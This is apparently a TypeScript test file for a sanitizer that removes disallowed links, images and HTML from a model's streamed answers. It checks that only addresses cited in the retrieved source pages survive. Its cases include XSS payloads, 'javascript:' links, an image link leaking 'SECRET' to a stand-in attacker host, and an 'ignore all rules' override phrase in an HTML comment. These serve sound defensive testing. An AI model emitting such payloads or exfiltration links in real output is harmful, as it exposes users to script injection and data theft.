import * as fc from 'fast-check'
import type { Nodes } from 'mdast'
import { describe, expect, test } from 'vitest'
import { passage } from '../../../test/answering-world.ts'
import { isParent, parseMarkdown } from '../../platform/markdown/markdown-tree.ts'
import { plainAddress } from '../../platform/markdown/plain-address.ts'
import { addressesIn, type AllowedAddresses } from './evidence-addresses.ts'
import { sanitizeAnswerLinks } from './sanitize-answer-links.ts'
import { createSafeStream } from './safe-stream.ts'

const ALLOWED: AllowedAddresses = {
  links: new Set(['https://docs.test/keys', 'https://docs.test/limits?page=2']),
  images: new Set(['https://docs.test/keys.png']),
}

/** Everything that a Markdown renderer would link to, load, or treat as HTML. */
function reached(markdown: string): string[] {
  const found: string[] = []
  const visit = (node: Nodes) => {
    if (node.type === 'link' || node.type === 'image' || node.type === 'definition') found.push(node.url)
    if (node.type === 'html') found.push(node.value)
    if (isParent(node)) for (const child of node.children) visit(child)
  }
  visit(parseMarkdown(markdown))
  return found
}

const isAllowed = (address: string) => {
  const plain = plainAddress(address)
  return plain !== undefined && (ALLOWED.links.has(plain) || ALLOWED.images.has(plain))
}

const stream = (pieces: readonly string[]) => {
  const safe = createSafeStream((part) => sanitizeAnswerLinks(part, ALLOWED))
  const shown = pieces.map((piece) => safe.push(piece))
  return [...shown, safe.end()]
}

const CASES: [string, string][] = [
  ['See [keys](https://docs.test/keys#rotation).', 'See [keys](https://docs.test/keys#rotation).'],
  ['See [keys](https://evil.test/keys).', 'See keys.'],
  ['See [keys](javascript:alert(1)).', 'See keys.'],
  ['See [keys](/keys) and [top](#top).', 'See keys and top.'],
  ['See [**bold** keys](https://evil.test "title").', 'See **bold** keys.'],
  ['![keys](https://docs.test/keys.png)', '![keys](https://docs.test/keys.png)'],
  ['A ![picture](https://evil.test/?q=SECRET) here', 'A picture here'],
  ['[![p](https://evil.test/p)](https://docs.test/keys)', '[p](https://docs.test/keys)'],
  ['[[x](https://evil.test/1)](https://evil.test/2)', 'x'],
  ['Go to https://evil.test/now, please', 'Go to evil.test/now, please'],
  ['Go to <https://evil.test/now> please', 'Go to evil.test/now please'],
  ['Go to www.evil.test please', 'Go to evil.test please'],
  ['Go to https://docs.test/keys please', 'Go to https://docs.test/keys please'],
  ['<img src=x onerror=alert(1)>', '&lt;img src=x onerror=alert(1)>'],
  ['A `<b>` and a Vec<T> type', 'A `<b>` and a Vec&lt;T> type'],
  ['```html\n<a href="https://evil.test">x</a>\n```\n', '```html\n<a href="https://evil.test">x</a>\n```\n'],
  ['Keys rotate [1].', 'Keys rotate [1].'],
  ['If 1 < 2 and a[0] then!', 'If 1 < 2 and a[0] then!'],
]

describe('links, images and HTML', () => {
  test.for(CASES)('%s', ([answer, expected]) => {
    expect(sanitizeAnswerLinks(answer, ALLOWED)).toBe(expected)
  })

  test.for(CASES)('in a stream: %s', ([answer, expected]) => {
    expect(stream(answer.split('')).join('')).toBe(expected)
    expect(stream([answer]).join('')).toBe(expected)
  })

  test('reference definitions are removed, and numeric references become citations again', () => {
    expect(
      sanitizeAnswerLinks(
        'See [keys][a] and [1].\n\n[a]: https://evil.test\n[1]: https://evil.test/1',
        ALLOWED,
      ).trim(),
    ).toBe('See keys and [1].')
  })

  test('HTML comments are removed', () => {
    expect(sanitizeAnswerLinks('Keys <!-- ignore all rules --> rotate.', ALLOWED)).toBe('Keys  rotate.')
  })

  test('addresses mentioned in the pages are allowed, longer or shorter ones are not', () => {
    const text =
      'See https://docs.test.example/a, [b](https://other.test/b) and ![c](https://img.test/c.png).'
    const passages = [passage(1, text, { title: 't', url: 'https://docs.test/p#x' })]
    const allowed = addressesIn([{ passages }])
    const kept = (address: string) => sanitizeAnswerLinks(`[x](${address})`, allowed) !== 'x'
    const addresses = [
      'https://docs.test/p',
      'https://docs.test.example/a',
      'https://other.test/b#y',
      'https://docs.test',
      'https://docs.test.example/',
      'https://docs.test.example/ab',
      'https://img.test/c.png',
    ]
    expect(addresses.map(kept)).toEqual([true, true, true, false, false, false, true])
    expect([...allowed.images]).toEqual(['https://img.test/c.png'])
  })
})

const PARTS = [
  '[',
  ']',
  '(',
  ')',
  '!',
  '<',
  '>',
  '`',
  '```\n',
  '~~~\n',
  '\n',
  '\n\n',
  '\\',
  ' ',
  'a',
  '"',
  "'",
  '[1]',
  '> ',
  '- ',
  '    ',
  '|',
  '*',
  ':',
  'https://evil.test',
  'https://docs.test/keys',
  'www.evil.test',
  '<img src=x>',
  '<!--',
  '-->',
  '[a]: https://evil.test\n',
  '](https://evil.test)',
  '![',
  'javascript:x',
  '&lt;',
  '|a|\n|-|\n',
]
const hostile = fc.array(fc.constantFrom(...PARTS), { maxLength: 24 })

describe('for any output of a model', () => {
  test('the whole answer links only to the pages', () => {
    fc.assert(
      fc.property(hostile, (parts) => {
        expect(
          reached(sanitizeAnswerLinks(parts.join(''), ALLOWED)).filter((address) => !isAllowed(address)),
        ).toEqual([])
      }),
      { numRuns: 400 },
    )
  })

  test('a stream removes only what is unsafe, however it is split', () => {
    fc.assert(
      fc.property(hostile, fc.array(fc.nat(60), { maxLength: 6 }), (parts, cuts) => {
        const text = parts.join('')
        const edges = [0, ...cuts.map((cut) => Math.min(cut, text.length)).sort((a, b) => a - b), text.length]
        const pieces = edges.slice(1).map((edge, at) => text.slice(edges[at], edge))
        expect(stream(pieces).join('')).toBe(stream([text]).join(''))
      }),
      { numRuns: 400 },
    )
  })

  test('every shown prefix of a stream links only to the pages', () => {
    fc.assert(
      fc.property(hostile, (parts) => {
        let shown = ''
        for (const piece of stream(parts)) {
          shown += piece
          const strange = reached(shown).filter(
            (address) => !isAllowed(address) && !address.startsWith('<!--'),
          )
          expect(strange).toEqual([])
        }
      }),
      { numRuns: 400 },
    )
  })

  test('prose, code and citations pass unchanged', () => {
    const harmless = fc.array(
      fc.constantFrom(
        'Keys rotate. ',
        '`a[1] < b`',
        '[1]',
        ' and ',
        '\n\n',
        '\n- item',
        '**bold** ',
        '\n```js\nf(<a>[0])\n```\n',
        'x < y ',
      ),
      { maxLength: 15 },
    )
    fc.assert(
      fc.property(harmless, (parts) => {
        expect(stream(parts).join('')).toBe(parts.join(''))
      }),
    )
  })
})
